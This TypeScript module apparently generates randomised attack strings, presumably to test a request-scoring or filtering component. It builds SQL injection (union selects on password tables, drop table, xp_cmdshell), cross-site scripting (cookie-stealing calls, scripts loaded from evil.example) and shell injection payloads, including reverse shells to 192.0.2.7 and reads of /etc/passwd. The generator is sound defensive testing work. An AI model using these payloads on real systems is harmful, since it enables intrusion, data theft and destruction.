/** Attacks on databases, pages and shells. */

import type { Random } from './random.ts'
import { mixedCase } from './score-request.ts'

const space = (random: Random) => random.of([' ', ' ', ' ', '/**/', '\t', '\n', '  '])

export function sqlInjection(random: Random): string {
  const s = () => space(random)
  const quote = random.of(["'", "'", '"', ''])
  const value = random.of(['1', '42', 'admin', '-1', 'x'])
  const end = random.of(['--', '-- -', '#', '/*', '--+', ';--', ''])
  const number = random.below(90) + 10
  const left = quote === '' && /[a-z]/.test(value) ? '1' : value
  const columns = Array.from({ length: random.below(5) + 1 }, () =>
    random.of(['null', '1', 'user()', '@@version', 'password']),
  ).join(',')
  const forms = [
    () => `${left}${quote}${s()}or${s()}${number}=${number}${end}`,
    () => `${left}${quote}${s()}or${s()}'a'='a`,
    () => `${left}${quote}${s()}and${s()}${number}=${number}${s()}${end}`,
    () => `${left}${quote}${s()}union${s()}${random.of(['', 'all '])}select${s()}${columns}${s()}${end}`,
    () =>
      `${left}${quote}${s()}union${s()}select${s()}${columns}${s()}from${s()}${random.of(['users', 'information_schema.tables', 'mysql.user', 'pg_shadow'])}${end}`,
    () => `${left}${quote};${s()}drop${s()}table${s()}${random.of(['users', 'orders'])}${end}`,
    () => `${left}${quote};${s()}exec${s()}xp_cmdshell('dir')${end}`,
    () => `${left}${quote}${s()}and${s()}sleep(${random.below(9) + 1})${end}`,
    () => `${left}${quote};${s()}waitfor${s()}delay${s()}'0:0:5'${end}`,
    () => `${left}${quote}${s()}and${s()}(select${s()}count(*)${s()}from${s()}users)>0${end}`,
    () => `${left}${quote}${s()}and${s()}extractvalue(1,concat(0x7e,version()))${end}`,
    () => `${left}${quote}${s()}||${s()}pg_sleep(5)${end}`,
    () => `${left}${quote}${s()}order${s()}by${s()}${number}${end || '--'}`,
    () => `${left}${quote}${s()}and${s()}benchmark(5000000,md5(1))${end}`,
    () => `${left}${quote}${s()}having${s()}1=1${end || '--'}`,
    () => `admin'${random.of(['--', '#', '/*'])}`,
    () => `${left}${quote}${s()}or${s()}exists(select${s()}1${s()}from${s()}users)${end}`,
    () => `${left}${quote}${s()}into${s()}outfile${s()}'/tmp/x'${end}`,
    () => `${left}${quote}${s()}or${s()}1${s()}like${s()}1${end}`,
    () => `${left}) or (1=1${end}`,
  ]
  return mixedCase(random.of(forms)(), random)
}

export function scriptInjection(random: Random): string {
  const call = random.of([
    'alert(1)',
    'confirm(document.cookie)',
    'prompt(1)',
    'alert`1`',
    'eval(name)',
    "fetch('//evil.example')",
  ])
  const event = random.of([
    'onerror',
    'onload',
    'onclick',
    'onmouseover',
    'onfocus',
    'ontoggle',
    'onanimationstart',
    'onpointerenter',
  ])
  const gap = random.of([' ', '/', '\t', '\n', ' /'])
  const forms = [
    () => `<script>${call}</script>`,
    () => `"><script>${call}</script>`,
    () => `<script src=//evil.example/x.js></script>`,
    () => `<img src=x ${event}=${call}>`,
    () => `<img${gap}src="x"${gap}${event}="${call}">`,
    () => `<svg${gap}onload=${call}>`,
    () => `<body ${event}=${call}>`,
    () => `<iframe src="javascript:${call}"></iframe>`,
    () => `<a href="javascript:${call}">x</a>`,
    () => `<a href="java\tscript:${call}">x</a>`,
    () => `javascript:${call}`,
    () => `" ${event}="${call}`,
    () => `' ${event}='${call}`,
    () => `<details open ontoggle=${call}>`,
    () => `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
    () => `<math><mtext></form><form><mglyph><style></math><img src ${event}=${call}>`,
    () => `<input autofocus onfocus=${call}>`,
    () => `<video><source ${event}="${call}">`,
    () => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
    () => `<scr<script>ipt>${call}</scr</script>ipt>`,
    () => `';${call};//`,
    () => `</title><script>${call}</script>`,
    () => `<style>@import'http://evil.example/x.css';</style>`,
    () => `<form><button formaction=javascript:${call}>x</button>`,
  ]
  return mixedCase(random.of(forms)(), random)
}

export function shellCommand(random: Random): string {
  const command = random.of([
    'cat /etc/passwd',
    'id',
    'whoami',
    'uname -a',
    'ls -la',
    'wget http://evil.example/x',
    'curl http://evil.example',
    'nc -e /bin/sh 192.0.2.7 4444',
    'ping -c 3 192.0.2.7',
    'sleep 5',
    'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
  ])
  const windows = random.of([
    'dir c:\\',
    'type c:\\boot.ini',
    'net user',
    'ipconfig /all',
    'powershell -enc SQBFAFgA',
    'cmd.exe /c dir',
  ])
  const forms = [
    () => `; ${command}`,
    () => `| ${command}`,
    () => `|| ${command}`,
    () => `&& ${command}`,
    () => `\`${command}\``,
    () => `$(${command})`,
    () => `x;${command};`,
    () => `127.0.0.1; ${command}`,
    () => `a\n${command}`,
    () => `;c''at /etc/pas''swd`,
    () => `;c\\at\${IFS}/etc/passwd`,
    () => `{cat,/etc/passwd}`,
    () => `() { :;}; /bin/bash -c "${command}"`,
    () => `& ${windows}`,
    () => `| ${windows}`,
    () => `/bin/cat /etc/passwd`,
    () => `;/usr/bin/id`,
    () => `%0a${command}`,
  ]
  return random.of(forms)()
}
